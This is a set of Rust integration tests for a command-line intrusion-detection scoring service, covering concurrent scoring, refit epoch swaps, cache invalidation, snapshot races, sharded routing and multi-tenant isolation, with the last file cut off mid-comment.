use rand::SeedableRng;
use serve::{
    DriftConfig, Frontend, LifecycleConfig, RefitSource, ScoringService, ServeConfig, ServeError,
};

use anomaly::{PcaMethod, RetrievalMethod, VanillaKnnMethod};

const PRODUCERS: usize = 6;
const LINES_PER_PRODUCER: usize = 24;

/// Iteration multiplier for the CI stress job (`SERVE_STRESS_ITERS=8`
/// turns the race windows from smoke-sized into soak-sized).
fn stress_factor() -> usize {
    std::env::var("SERVE_STRESS_ITERS")
        .ok()
        .and_then(|v| v.parse().ok())
        .filter(|&f| f >= 1)
        .unwrap_or(1)
}

fn fixture() -> (IdsPipeline, Vec<String>, Vec<bool>, Vec<String>) {
    let mut config = PipelineConfig::fast();
    config.train_size = 500;
    config.test_size = 200;
    config.attack_prob = 0.25;
    let mut rng = StdRng::seed_from_u64(4242);
    let dataset = config.generate_dataset(&mut rng);
    let pipeline = IdsPipeline::pretrain(&config, &dataset, &mut rng);
    let ids = RuleIds::with_default_rules();
    let labels: Vec<bool> = dataset
        .train
        .iter()
        .map(|r| ids.is_alert(&r.line))
        .collect();
    let train: Vec<String> = dataset.train.iter().map(|r| r.line.clone()).collect();
    let test: Vec<String> = dedup_records(&dataset.test)
        .iter()
        .map(|r| r.line.clone())
        .collect();
    (pipeline, train, labels, test)
}

/// PCA between the two neighbour methods: the refittable resident is
/// the method whose verdicts actually move across an epoch swap, so a
/// torn micro-batch would be visible in its slot.
fn fit(
    pipeline: &IdsPipeline,
    train_lines: &[String],
    labels: &[bool],
    index: IndexConfig,
) -> FittedEngine {
    let store = EmbeddingStore::new(pipeline);
    let refs: Vec<&str> = train_lines.iter().map(String::as_str).collect();
    let train = store.view(&refs, Pooling::Mean);
    ScoringEngine::new()
        .with_index_config(index)
        .register(Box::new(RetrievalMethod::new(2)))
        .register(Box::new(PcaMethod::new(0.95)))
        .register(Box::new(VanillaKnnMethod::new(3)))
        .fit(&train, labels)
        .expect("detector set fits")
}

/// Tiny queue + several workers: maximal interleaving pressure on the
/// epoch swap, same shape the concurrency suite uses.
fn racy_config() -> ServeConfig {
    ServeConfig {
        queue_capacity: 4,
        max_batch: 16,
        batch_window: Duration::from_micros(500),
        workers: 3,
    }
}

/// Drift config whose triggers can never fire on their own: the test
/// drives refits explicitly.
fn triggers_off() -> DriftConfig {
    DriftConfig {
        window: 64,
        bins: 4,
        threshold: 1e9,
        append_threshold: 0,
    }
}

fn manual_lifecycle(train: &[String], labels: &[bool]) -> LifecycleConfig {
    let source =
        RefitSource::new(train.to_vec(), labels.to_vec()).expect("aligned non-empty source");
    LifecycleConfig::new(source)
        .with_drift(triggers_off())
        .manual()
}

fn burst(test: &[String]) -> (Vec<String>, Vec<bool>) {
    let lines: Vec<String> = test.iter().take(12).cloned().collect();
    let labels = vec![
        true, false, true, true, false, false, true, false, false, true, false, true,
    ];
    (lines, labels)
}

#[test]
fn refit_under_load_is_bit_identical_to_stop_the_world() {
    let (pipeline, train, labels, test) = fixture();
    let (burst_lines, burst_labels) = burst(&test);

    // Stop-the-world comparator: append quietly, refit quietly, score
    // quietly. `pre`/`post` are the only two verdict vectors any line
    // may ever produce — one per epoch.
    let quiet = ScoringService::spawn_with_lifecycle(
        pipeline.clone(),
        fit(&pipeline, &train, &labels, IndexConfig::Exact),
        racy_config(),
        manual_lifecycle(&train, &labels),
    )
    .expect("comparator spawns");
    quiet
        .append(&burst_lines, &burst_labels)
        .expect("comparator append");
    assert_eq!(quiet.engine_epoch(), 0);
    let pre: HashMap<&str, Vec<f32>> = test
        .iter()
        .map(|l| (l.as_str(), quiet.score_line(l).expect("pre-refit score")))
        .collect();
    assert_eq!(quiet.refit().expect("quiet refit"), 1);
    assert_eq!(quiet.engine_epoch(), 1);
    let post: HashMap<&str, Vec<f32>> = test
        .iter()
        .map(|l| (l.as_str(), quiet.score_line(l).expect("post-refit score")))
        .collect();
    assert_ne!(
        pre, post,
        "refitting PCA over baseline ∪ appended burst must move its verdicts"
    );
    let stats = quiet.lifecycle_stats().expect("lifecycle attached");
    assert_eq!(stats.refits, 1);
    assert_eq!(stats.appends_logged, burst_lines.len());
    assert_eq!(stats.appends_since_refit, 0);
    assert!(!stats.refit_pending);
    quiet.shutdown();

    // Under test: identical history, but the refit races PRODUCERS
    // threads of live score traffic through a 4-slot queue.
    let racy = ScoringService::spawn_with_lifecycle(
        pipeline.clone(),
        fit(&pipeline, &train, &labels, IndexConfig::Exact),
        racy_config(),
        manual_lifecycle(&train, &labels),
    )
    .expect("racy service spawns");
    racy.append(&burst_lines, &burst_labels)
        .expect("racy append");

    let rounds = stress_factor();
    let barrier = Arc::new(Barrier::new(PRODUCERS + 1));
    let mut replies = 0usize;
    std::thread::scope(|scope| {
        let mut handles = Vec::new();
        for p in 0..PRODUCERS {
            let client = racy.client();
            let barrier = barrier.clone();
            let (test, pre, post) = (&test, &pre, &post);
            handles.push(scope.spawn(move || {
                let check = |line: &str, got: &Vec<f32>| {
                    assert!(
                        got == &pre[line] || got == &post[line],
                        "torn verdict for {line:?}: {got:?} is neither the \
                         epoch-0 nor the epoch-1 vector"
                    );
                };
                barrier.wait();
                let mut seen = 0usize;
                for _ in 0..rounds {
                    let mine: Vec<String> = test
                        .iter()
                        .skip(p)
                        .step_by(PRODUCERS)
                        .take(LINES_PER_PRODUCER)
                        .cloned()
                        .collect();
                    if p % 2 == 0 {
                        for chunk in mine.chunks(3) {
                            let got = client.score_batch(chunk).expect("batch scored");
                            assert_eq!(got.len(), chunk.len(), "dropped or duplicated verdicts");
                            for (line, verdict) in chunk.iter().zip(&got) {
                                check(line, verdict);
                            }
                            seen += got.len();
                        }
                    } else {
                        for line in &mine {
                            let got = client.score_line(line).expect("line scored");
                            check(line, &got);
                            seen += 1;
                        }
                    }
                }
                seen
            }));
        }
        barrier.wait();
        assert_eq!(racy.refit().expect("refit under load"), 1);
        for handle in handles {
            replies += handle.join().expect("producer survives the swap");
        }
    });

    // Exactly one verdict per submitted line, across every epoch.
    let expected: usize = (0..PRODUCERS)
        .map(|p| {
            test.iter()
                .skip(p)
                .step_by(PRODUCERS)
                .take(LINES_PER_PRODUCER)
                .count()
                * rounds
        })
        .sum();
    assert_eq!(
        replies, expected,
        "a submitted line was dropped or double-scored"
    );
    assert_eq!(racy.engine_epoch(), 1);
    assert_eq!(racy.lifecycle_stats().expect("stats").refits, 1);

    // Converged: post-swap the racy service is the stop-the-world one.
    for line in &test {
        let got = racy.score_line(line).expect("post-race score");
        assert_eq!(
            got,
            post[line.as_str()],
            "refit-under-load diverged from stop-the-world for {line:?}"
        );
    }
    racy.shutdown();
}

#[test]
fn append_threshold_arms_manual_refits() {
    let (pipeline, train, labels, test) = fixture();
    let mut drift = triggers_off();
    drift.append_threshold = 8;
    let source = RefitSource::new(train.clone(), labels.clone()).expect("source");
    let service = ScoringService::spawn_with_lifecycle(
        pipeline.clone(),
        fit(&pipeline, &train, &labels, IndexConfig::Exact),
        ServeConfig::default(),
        LifecycleConfig::new(source).with_drift(drift).manual(),
    )
    .expect("service spawns");

    let (burst_lines, burst_labels) = burst(&test);
    service
        .append(&burst_lines[..4], &burst_labels[..4])
        .expect("first append");
    let stats = service.lifecycle_stats().expect("stats");
    assert!(
        !stats.refit_pending,
        "4 < 8 appends must not arm the trigger"
    );
    assert_eq!(stats.appends_since_refit, 4);

    service
        .append(&burst_lines[4..8], &burst_labels[4..8])
        .expect("second append");
    let stats = service.lifecycle_stats().expect("stats");
    assert!(stats.refit_pending, "8 >= 8 appends must arm the trigger");
    // Manual mode: armed is not run.
    assert_eq!(service.engine_epoch(), 0);
    assert_eq!(stats.refits, 0);

    assert_eq!(service.refit().expect("manual refit"), 1);
    let stats = service.lifecycle_stats().expect("stats");
    assert_eq!(stats.refits, 1);
    assert_eq!(stats.appends_since_refit, 0);
    assert!(!stats.refit_pending);
    service.shutdown();
}

#[test]
fn background_refit_fires_on_append_threshold_and_matches_manual() {
    let (pipeline, train, labels, test) = fixture();
    let (burst_lines, burst_labels) = burst(&test);
    let mut drift = triggers_off();
    drift.append_threshold = burst_lines.len();

    // Comparator: same appends, explicit refit.
    let manual = ScoringService::spawn_with_lifecycle(
        pipeline.clone(),
        fit(&pipeline, &train, &labels, IndexConfig::Exact),
        ServeConfig::default(),
        manual_lifecycle(&train, &labels),
    )
    .expect("manual comparator spawns");
    manual
        .append(&burst_lines, &burst_labels)
        .expect("comparator append");
    manual.refit().expect("comparator refit");
    let want: Vec<Vec<f32>> = manual.score_batch(&test).expect("comparator scores");
    manual.shutdown();

    // Under test: the background worker must notice the armed trigger
    // and swap the new epoch in by itself.
    let source = RefitSource::new(train.clone(), labels.clone()).expect("source");
    let background = ScoringService::spawn_with_lifecycle(
        pipeline.clone(),
        fit(&pipeline, &train, &labels, IndexConfig::Exact),
        ServeConfig::default(),
        LifecycleConfig::new(source).with_drift(drift),
    )
    .expect("background service spawns");
    background
        .append(&burst_lines, &burst_labels)
        .expect("append arms the count trigger");

    let deadline = Instant::now() + Duration::from_secs(30);
    while background.engine_epoch() == 0 {
        assert!(
            Instant::now() < deadline,
            "background refit worker never answered the armed trigger"
        );
        std::thread::sleep(Duration::from_millis(10));
    }
    let stats = background.lifecycle_stats().expect("stats");
    assert!(stats.refits >= 1);
    assert_eq!(stats.appends_since_refit, 0);

    let got = background.score_batch(&test).expect("background scores");
    assert_eq!(
        got, want,
        "background refit must match the manual one bit for bit"
    );
    background.shutdown();
}

#[test]
fn refit_swap_invalidates_the_shared_verdict_cache() {
    let (pipeline, train, labels, test) = fixture();
    let front = Frontend::spawn_with_lifecycle(
        pipeline.clone(),
        fit(&pipeline, &train, &labels, IndexConfig::Exact),
        1,
        ServeConfig::default(),
        manual_lifecycle(&train, &labels),
    )
    .expect("front spawns")
    .with_cache(64)
    .expect("cache attaches");

    let (burst_lines, burst_labels) = burst(&test);
    let line = test[0].as_str();
    let v0 = front.score_line(line).expect("first score");
    let v1 = front.score_line(line).expect("second score");
    assert_eq!(v0, v1);
    let s = front.cache().expect("cache").stats();
    assert_eq!((s.hits, s.misses), (1, 1), "second lookup must hit");

    // The append invalidates (its own epoch bump, the pre-existing
    // behaviour, now routed through the shared counter) and leaves a
    // non-empty log for the refit to consume.
    front.append(&burst_lines, &burst_labels).expect("append");
    let v_appended = front.score_line(line).expect("post-append score");
    assert_eq!(front.cache().expect("cache").stats().misses, 2);

    // The refit swap alone — no interleaving append — must advance
    // the same counter: the epoch-0 verdict cached above cannot
    // survive into epoch 1.
    let cache_epoch = front.cache().expect("cache").epoch();
    assert_eq!(front.refit().expect("refit"), 1);
    assert!(
        front.cache().expect("cache").epoch() > cache_epoch,
        "refit swap must advance the shared invalidation epoch"
    );
    let v2 = front.score_line(line).expect("post-refit score");
    let s = front.cache().expect("cache").stats();
    assert_eq!(
        (s.hits, s.misses),
        (1, 3),
        "post-refit lookup must miss the stale epoch"
    );
    assert_ne!(v2, v_appended, "the fresh verdict comes from the new epoch");

    // And the fresh verdict is cached under the new epoch.
    let v3 = front.score_line(line).expect("cached post-refit score");
    assert_eq!(v3, v2);
    assert_eq!(front.cache().expect("cache").stats().hits, 2);
    front.shutdown();
}

#[test]
fn snapshot_racing_refits_is_atomic_or_typed() {
    let (pipeline, train, labels, test) = fixture();
    let (burst_lines, burst_labels) = burst(&test);
    let service = ScoringService::spawn_with_lifecycle(
        pipeline.clone(),
        fit(&pipeline, &train, &labels, IndexConfig::Exact),
        ServeConfig::default(),
        manual_lifecycle(&train, &labels),
    )
    .expect("service spawns");

    let rounds = 12 * stress_factor();
    let done = AtomicBool::new(false);
    let (mut clean, mut raced) = (0usize, 0usize);
    std::thread::scope(|scope| {
        let writer = scope.spawn(|| {
            for _ in 0..rounds {
                service
                    .append(&burst_lines, &burst_labels)
                    .expect("writer append");
                service.refit().expect("writer refit");
            }
            done.store(true, Ordering::Release);
        });
        loop {
            let finished = done.load(Ordering::Acquire);
            match service.snapshot() {
                Ok((snapshot, skipped)) => {
                    clean += 1;
                    assert_eq!(skipped, ["pca"], "resident pca refits from data");
                    assert_eq!(snapshot.len(), 2, "both neighbour methods captured");
                }
                Err(ServeError::SnapshotRace { before, after }) => {
                    raced += 1;
                    assert!(
                        after > before,
                        "a snapshot race must come from an advancing epoch"
                    );
                }
                Err(other) => panic!("snapshot failed with a non-race error: {other}"),
            }
            if finished {
                break;
            }
        }
        writer.join().expect("writer survives");
    });
    // The final round ran after the writer finished, so a consistent
    // capture is guaranteed at least once.
    assert!(
        clean >= 1,
        "no consistent snapshot in {} attempts",
        clean + raced
    );
    assert_eq!(service.engine_epoch(), rounds as u64);
    service.shutdown();
}

#[test]
fn router_refit_matches_the_unsharded_service_refit() {
    let (pipeline, train, labels, test) = fixture();
    let (burst_lines, burst_labels) = burst(&test);

    let single = Frontend::spawn_with_lifecycle(
        pipeline.clone(),
        fit(&pipeline, &train, &labels, IndexConfig::Exact),
        1,
        ServeConfig::default(),
        manual_lifecycle(&train, &labels),
    )
    .expect("single front spawns");
    let sharded = Frontend::spawn_with_lifecycle(
        pipeline.clone(),
        fit(
            &pipeline,
            &train,
            &labels,
            IndexConfig::Exact.with_shards(3),
        ),
        3,
        ServeConfig::default(),
        manual_lifecycle(&train, &labels),
    )
    .expect("sharded front spawns");

    for front in [&single, &sharded] {
        front.append(&burst_lines, &burst_labels).expect("append");
        assert_eq!(front.refit().expect("refit"), 1);
        assert_eq!(front.engine_epoch(), 1);
        let stats = front.lifecycle_stats().expect("stats");
        assert_eq!(stats.refits, 1);
        assert_eq!(stats.appends_since_refit, 0);
    }
    let want = single.score_batch(&test).expect("single scores");
    let got = sharded.score_batch(&test).expect("sharded scores");
    assert_eq!(
        got, want,
        "the router's refit path must keep scatter/merge bit-parity"
    );
    single.shutdown();
    sharded.shutdown();
}
