//! Concurrency contract: N producer threads hammering a service with a
//! deliberately tiny bounded queue never deadlock, and every submitted
//! line gets exactly one score — bit-identical to a quiet
//! single-threaded reference on the exact backend, whatever
//! micro-batch each line landed in. A second harness races appends and
//! snapshots against the score traffic and pins convergence to a
//! quiet comparator with the same append history.
//!
//! `SERVE_STRESS_ITERS=N` multiplies the per-producer quotas for the
//! release-mode CI stress job.

use cmdline_ids::embed::Pooling;
use cmdline_ids::engine::{EmbeddingStore, ScoringEngine};
use cmdline_ids::pipeline::{IdsPipeline, PipelineConfig};
use corpus::dedup_records;
use ids_rules::RuleIds;
use rand::rngs::StdRng;
use rand::SeedableRng;
use serve::{ScoringService, ServeConfig, ServeError};
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::Barrier;
use std::time::Duration;

use anomaly::{RetrievalMethod, VanillaKnnMethod};

const PRODUCERS: usize = 8;
const LINES_PER_PRODUCER: usize = 40;

/// Iteration multiplier for the CI stress job.
fn stress_factor() -> usize {
    std::env::var("SERVE_STRESS_ITERS")
        .ok()
        .and_then(|v| v.parse().ok())
        .filter(|&f| f >= 1)
        .unwrap_or(1)
}

fn service_fixture() -> (IdsPipeline, Vec<String>, Vec<bool>, Vec<String>) {
    let mut config = PipelineConfig::fast();
    config.train_size = 500;
    config.test_size = 400;
    config.attack_prob = 0.25;
    let mut rng = StdRng::seed_from_u64(77);
    let dataset = config.generate_dataset(&mut rng);
    let pipeline = IdsPipeline::pretrain(&config, &dataset, &mut rng);
    let ids = RuleIds::with_default_rules();
    let labels: Vec<bool> = dataset
        .train
        .iter()
        .map(|r| ids.is_alert(&r.line))
        .collect();
    let train: Vec<String> = dataset.train.iter().map(|r| r.line.clone()).collect();
    let lines: Vec<String> = dedup_records(&dataset.test)
        .iter()
        .map(|r| r.line.clone())
        .collect();
    (pipeline, train, labels, lines)
}

#[test]
fn concurrent_producers_get_exactly_one_score_per_line() {
    let (pipeline, train_lines, labels, lines) = service_fixture();
    let store = EmbeddingStore::new(&pipeline);
    let train = store.view_of(&train_lines, Pooling::Mean);
    let fitted = ScoringEngine::new()
        .register(Box::new(RetrievalMethod::new(1)))
        .register(Box::new(VanillaKnnMethod::new(3)))
        .fit(&train, &labels)
        .expect("fit succeeds");
    let service = ScoringService::spawn(
        pipeline,
        fitted,
        ServeConfig {
            // Tiny queue: producers must block on back-pressure, which
            // is exactly where a deadlock would bite.
            queue_capacity: 4,
            max_batch: 16,
            batch_window: Duration::from_micros(500),
            workers: 3,
        },
    )
    .expect("service spawns");

    // Quiet single-threaded reference verdict per distinct line.
    let mut reference = std::collections::HashMap::new();
    for line in &lines {
        if !reference.contains_key(line) {
            reference.insert(
                line.clone(),
                service.score_line(line).expect("reference scoring"),
            );
        }
    }

    // Each producer walks the corpus from its own offset, mixing
    // single-line and small-batch submissions.
    let barrier = Barrier::new(PRODUCERS);
    let client = service.client();
    std::thread::scope(|scope| {
        let mut handles = Vec::new();
        for p in 0..PRODUCERS {
            let client = client.clone();
            let barrier = &barrier;
            let lines = &lines;
            let quota = LINES_PER_PRODUCER * stress_factor();
            handles.push(scope.spawn(move || {
                barrier.wait();
                let mut got: Vec<(String, Vec<f32>)> = Vec::new();
                let mut i = p * 31 % lines.len();
                while got.len() < quota {
                    if (got.len() + p).is_multiple_of(3) {
                        // Small batch of 3.
                        let batch: Vec<String> = (0..3)
                            .map(|j| lines[(i + j) % lines.len()].clone())
                            .collect();
                        let replies = client.score_batch(&batch).expect("service alive");
                        assert_eq!(replies.len(), batch.len(), "one reply per line");
                        got.extend(batch.into_iter().zip(replies));
                        i = (i + 3) % lines.len();
                    } else {
                        let line = lines[i].clone();
                        let scores = client.score_line(&line).expect("service alive");
                        got.push((line, scores));
                        i = (i + 1) % lines.len();
                    }
                }
                got
            }));
        }
        let mut total = 0;
        for handle in handles {
            let got = handle.join().expect("producer panicked");
            assert!(got.len() >= LINES_PER_PRODUCER);
            total += got.len();
            for (line, scores) in got {
                assert_eq!(
                    &scores,
                    reference.get(&line).expect("line was referenced"),
                    "concurrent score for {line:?} differs from the quiet reference"
                );
            }
        }
        assert!(total >= PRODUCERS * LINES_PER_PRODUCER);
    });
    drop(client);

    let stats = service.stats();
    assert!(
        stats.lines >= PRODUCERS * LINES_PER_PRODUCER,
        "every submitted line was scored ({} < {})",
        stats.lines,
        PRODUCERS * LINES_PER_PRODUCER
    );
    assert!(
        stats.batches <= stats.lines,
        "batches can never exceed lines"
    );
    service.shutdown();
}

#[test]
fn appends_and_snapshots_race_scores_without_deadlock() {
    let (pipeline, train_lines, labels, lines) = service_fixture();
    let store = EmbeddingStore::new(&pipeline);
    let train = store.view_of(&train_lines, Pooling::Mean);
    let fit = || {
        ScoringEngine::new()
            .register(Box::new(RetrievalMethod::new(1)))
            .register(Box::new(VanillaKnnMethod::new(3)))
            .fit(&train, &labels)
            .expect("fit succeeds")
    };
    let bursts: Vec<(Vec<String>, Vec<bool>)> = (0..4 * stress_factor())
        .map(|r| {
            let start = (r * 7) % (lines.len() - 6);
            let burst: Vec<String> = lines[start..start + 6].to_vec();
            let labels: Vec<bool> = (0..6).map(|j| (r + j).is_multiple_of(2)).collect();
            (burst, labels)
        })
        .collect();

    // Quiet comparator: the same append history, no racing traffic.
    let comparator =
        ScoringService::spawn(pipeline.clone(), fit(), ServeConfig::default()).expect("spawns");
    for (burst, burst_labels) in &bursts {
        comparator
            .append(burst, burst_labels)
            .expect("quiet append");
    }
    let want: Vec<Vec<f32>> = comparator.score_batch(&lines).expect("comparator scores");
    comparator.shutdown();

    let service = ScoringService::spawn(
        pipeline,
        fit(),
        ServeConfig {
            queue_capacity: 4,
            max_batch: 16,
            batch_window: Duration::from_micros(500),
            workers: 3,
        },
    )
    .expect("service spawns");

    // Writers and readers on the same barrier: appends mutate the
    // indexes and bump the state epoch while producers stream scores
    // and a snapshotter captures — every capture must be a single
    // epoch or a typed race, and nobody may deadlock on the tiny
    // queue.
    let barrier = Barrier::new(PRODUCERS + 2);
    let done = AtomicBool::new(false);
    std::thread::scope(|scope| {
        let mut handles = Vec::new();
        for p in 0..PRODUCERS {
            let client = service.client();
            let (barrier, lines) = (&barrier, &lines);
            let quota = LINES_PER_PRODUCER * stress_factor();
            handles.push(scope.spawn(move || {
                barrier.wait();
                let mut seen = 0usize;
                let mut i = p * 13 % lines.len();
                while seen < quota {
                    let batch: Vec<String> = (0..3)
                        .map(|j| lines[(i + j) % lines.len()].clone())
                        .collect();
                    let replies = client.score_batch(&batch).expect("service alive");
                    assert_eq!(replies.len(), batch.len(), "one reply per line");
                    for verdict in &replies {
                        assert_eq!(verdict.len(), 2, "every method answers");
                    }
                    seen += replies.len();
                    i = (i + 3) % lines.len();
                }
                seen
            }));
        }
        let appender = scope.spawn(|| {
            barrier.wait();
            for (burst, burst_labels) in &bursts {
                let absorbed = service.append(burst, burst_labels).expect("racing append");
                assert_eq!(absorbed, 2, "both neighbour indexes absorb");
            }
            done.store(true, Ordering::Release);
        });
        let snapshotter = scope.spawn(|| {
            barrier.wait();
            let (mut clean, mut raced) = (0usize, 0usize);
            loop {
                let finished = done.load(Ordering::Acquire);
                match service.snapshot() {
                    Ok(_) => clean += 1,
                    Err(ServeError::SnapshotRace { before, after }) => {
                        assert!(after > before, "race implies an advancing epoch");
                        raced += 1;
                    }
                    Err(other) => panic!("snapshot failed with a non-race error: {other}"),
                }
                if finished {
                    break;
                }
            }
            (clean, raced)
        });
        let mut total = 0usize;
        for handle in handles {
            total += handle.join().expect("producer survived");
        }
        appender.join().expect("appender survived");
        let (clean, _raced) = snapshotter.join().expect("snapshotter survived");
        assert!(total >= PRODUCERS * LINES_PER_PRODUCER * stress_factor());
        // The loop's last capture runs after the final append, so a
        // consistent snapshot is guaranteed at least once.
        assert!(clean >= 1, "no consistent snapshot amid racing appends");
    });

    // Converged: once the appends have all landed, the racy service is
    // the quiet comparator, bit for bit.
    let got: Vec<Vec<f32>> = service.score_batch(&lines).expect("post-race scores");
    assert_eq!(
        got, want,
        "append-racing-score history diverged from quiet appends"
    );
    assert_eq!(service.state_epoch(), bursts.len() as u64);
    service.shutdown();
}

#[test]
fn shutdown_then_submit_reports_closed() {
    let (pipeline, train_lines, labels, lines) = service_fixture();
    let store = EmbeddingStore::new(&pipeline);
    let train = store.view_of(&train_lines, Pooling::Mean);
    let fitted = ScoringEngine::new()
        .register(Box::new(RetrievalMethod::new(1)))
        .fit(&train, &labels)
        .expect("fit succeeds");
    let service = ScoringService::spawn(pipeline, fitted, ServeConfig::default()).expect("spawns");
    let client = service.client();
    assert!(client.score_line(&lines[0]).is_ok());
    service.shutdown();
    assert_eq!(
        client.score_line(&lines[0]).unwrap_err(),
        serve::ServeError::Closed
    );
}
