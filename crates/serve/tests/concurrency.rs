//! Concurrency contract: N producer threads hammering a service with a
//! deliberately tiny bounded queue never deadlock, and every submitted
//! line gets exactly one score — bit-identical to a quiet
//! single-threaded reference on the exact backend, whatever
//! micro-batch each line landed in.

use cmdline_ids::embed::Pooling;
use cmdline_ids::engine::{EmbeddingStore, ScoringEngine};
use cmdline_ids::pipeline::{IdsPipeline, PipelineConfig};
use corpus::dedup_records;
use ids_rules::RuleIds;
use rand::rngs::StdRng;
use rand::SeedableRng;
use serve::{ScoringService, ServeConfig};
use std::sync::Barrier;
use std::time::Duration;

use anomaly::{RetrievalMethod, VanillaKnnMethod};

const PRODUCERS: usize = 8;
const LINES_PER_PRODUCER: usize = 40;

fn service_fixture() -> (IdsPipeline, Vec<String>, Vec<bool>, Vec<String>) {
    let mut config = PipelineConfig::fast();
    config.train_size = 500;
    config.test_size = 400;
    config.attack_prob = 0.25;
    let mut rng = StdRng::seed_from_u64(77);
    let dataset = config.generate_dataset(&mut rng);
    let pipeline = IdsPipeline::pretrain(&config, &dataset, &mut rng);
    let ids = RuleIds::with_default_rules();
    let labels: Vec<bool> = dataset
        .train
        .iter()
        .map(|r| ids.is_alert(&r.line))
        .collect();
    let train: Vec<String> = dataset.train.iter().map(|r| r.line.clone()).collect();
    let lines: Vec<String> = dedup_records(&dataset.test)
        .iter()
        .map(|r| r.line.clone())
        .collect();
    (pipeline, train, labels, lines)
}

#[test]
fn concurrent_producers_get_exactly_one_score_per_line() {
    let (pipeline, train_lines, labels, lines) = service_fixture();
    let store = EmbeddingStore::new(&pipeline);
    let train = store.view_of(&train_lines, Pooling::Mean);
    let fitted = ScoringEngine::new()
        .register(Box::new(RetrievalMethod::new(1)))
        .register(Box::new(VanillaKnnMethod::new(3)))
        .fit(&train, &labels)
        .expect("fit succeeds");
    let service = ScoringService::spawn(
        pipeline,
        fitted,
        ServeConfig {
            // Tiny queue: producers must block on back-pressure, which
            // is exactly where a deadlock would bite.
            queue_capacity: 4,
            max_batch: 16,
            batch_window: Duration::from_micros(500),
            workers: 3,
        },
    )
    .expect("service spawns");

    // Quiet single-threaded reference verdict per distinct line.
    let mut reference = std::collections::HashMap::new();
    for line in &lines {
        if !reference.contains_key(line) {
            reference.insert(
                line.clone(),
                service.score_line(line).expect("reference scoring"),
            );
        }
    }

    // Each producer walks the corpus from its own offset, mixing
    // single-line and small-batch submissions.
    let barrier = Barrier::new(PRODUCERS);
    let client = service.client();
    std::thread::scope(|scope| {
        let mut handles = Vec::new();
        for p in 0..PRODUCERS {
            let client = client.clone();
            let barrier = &barrier;
            let lines = &lines;
            handles.push(scope.spawn(move || {
                barrier.wait();
                let mut got: Vec<(String, Vec<f32>)> = Vec::new();
                let mut i = p * 31 % lines.len();
                while got.len() < LINES_PER_PRODUCER {
                    if (got.len() + p).is_multiple_of(3) {
                        // Small batch of 3.
                        let batch: Vec<String> = (0..3)
                            .map(|j| lines[(i + j) % lines.len()].clone())
                            .collect();
                        let replies = client.score_batch(&batch).expect("service alive");
                        assert_eq!(replies.len(), batch.len(), "one reply per line");
                        got.extend(batch.into_iter().zip(replies));
                        i = (i + 3) % lines.len();
                    } else {
                        let line = lines[i].clone();
                        let scores = client.score_line(&line).expect("service alive");
                        got.push((line, scores));
                        i = (i + 1) % lines.len();
                    }
                }
                got
            }));
        }
        let mut total = 0;
        for handle in handles {
            let got = handle.join().expect("producer panicked");
            assert!(got.len() >= LINES_PER_PRODUCER);
            total += got.len();
            for (line, scores) in got {
                assert_eq!(
                    &scores,
                    reference.get(&line).expect("line was referenced"),
                    "concurrent score for {line:?} differs from the quiet reference"
                );
            }
        }
        assert!(total >= PRODUCERS * LINES_PER_PRODUCER);
    });
    drop(client);

    let stats = service.stats();
    assert!(
        stats.lines >= PRODUCERS * LINES_PER_PRODUCER,
        "every submitted line was scored ({} < {})",
        stats.lines,
        PRODUCERS * LINES_PER_PRODUCER
    );
    assert!(
        stats.batches <= stats.lines,
        "batches can never exceed lines"
    );
    service.shutdown();
}

#[test]
fn shutdown_then_submit_reports_closed() {
    let (pipeline, train_lines, labels, lines) = service_fixture();
    let store = EmbeddingStore::new(&pipeline);
    let train = store.view_of(&train_lines, Pooling::Mean);
    let fitted = ScoringEngine::new()
        .register(Box::new(RetrievalMethod::new(1)))
        .fit(&train, &labels)
        .expect("fit succeeds");
    let service = ScoringService::spawn(pipeline, fitted, ServeConfig::default()).expect("spawns");
    let client = service.client();
    assert!(client.score_line(&lines[0]).is_ok());
    service.shutdown();
    assert_eq!(
        client.score_line(&lines[0]).unwrap_err(),
        serve::ServeError::Closed
    );
}
