//! Multi-tenant serving correctness: tenant partitions are airtight
//! (two tenants with byte-identical lines never cross-serve, cached
//! or not), tiering is invisible to verdicts (any interleaving of
//! promotions, demotions, and evictions stays bit-identical to a
//! dedicated single-tenant service), the memory envelope holds after
//! convergence, and a restored tenant map costs zero construction
//! passes until first touch.

use cmdline_ids::engine::{
    Detector, EmbeddingView, FittedEngine, IndexConfig, MethodScores, Quantization,
};
use cmdline_ids::pipeline::{IdsPipeline, PipelineConfig};
use linalg::rng::randn;
use proptest::prelude::*;
use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};
use serve::{Frontend, ServeConfig, TenantConfig, TenantError, TenantId, TenantService};
use std::sync::OnceLock;
use std::time::Duration;

use anomaly::{RetrievalMethod, VanillaKnnMethod};

const DIM: usize = 8;

/// A deterministic per-tenant baseline: each tenant's exemplars are
/// drawn from its own seeded Gaussian, so no two tenants share a
/// partition (and verdicts visibly differ across tenants).
fn tenant_view(seed: u64, rows: usize) -> (EmbeddingView, Vec<bool>) {
    let mut rng = StdRng::seed_from_u64(seed);
    let matrix = randn(&mut rng, rows, DIM, 1.0);
    let labels = (0..rows).map(|i| i % 3 == 0).collect();
    (EmbeddingView::from_matrix(matrix), labels)
}

fn query_view(seed: u64, rows: usize) -> EmbeddingView {
    let mut rng = StdRng::seed_from_u64(seed ^ 0x9E37_79B9);
    EmbeddingView::from_matrix(randn(&mut rng, rows, DIM, 1.0))
}

/// The dedicated single-tenant comparator: the same detector set the
/// tenant service fits, fitted directly, never demoted.
fn dedicated(config: &TenantConfig, view: &EmbeddingView, labels: &[bool]) -> FittedEngine {
    let mut detectors: Vec<Box<dyn Detector>> = vec![
        Box::new(RetrievalMethod::with_index(
            config.retrieval_k,
            config.index,
        )),
        Box::new(VanillaKnnMethod::with_index(config.knn_k, config.index)),
    ];
    for det in &mut detectors {
        det.fit(view, labels).expect("dedicated fit succeeds");
    }
    FittedEngine::from_detectors(detectors)
}

fn score_dedicated(engine: &FittedEngine, view: &EmbeddingView) -> Vec<Vec<f32>> {
    let run = engine.score_each(|_| view.clone());
    transpose(run.outputs(), view.len())
}

fn transpose(outputs: &[MethodScores], n: usize) -> Vec<Vec<f32>> {
    let mut out = vec![Vec::with_capacity(outputs.len()); n];
    for method in outputs {
        for (line, &s) in out.iter_mut().zip(&method.scores) {
            line.push(s);
        }
    }
    out
}

fn hnsw_i8_config(mem_budget: usize) -> TenantConfig {
    TenantConfig {
        index: IndexConfig::hnsw().with_quant(Quantization::I8),
        mem_budget,
        ..TenantConfig::default()
    }
}

/// Demote → lazy promote is bit-invisible on the graph-dropped HNSW +
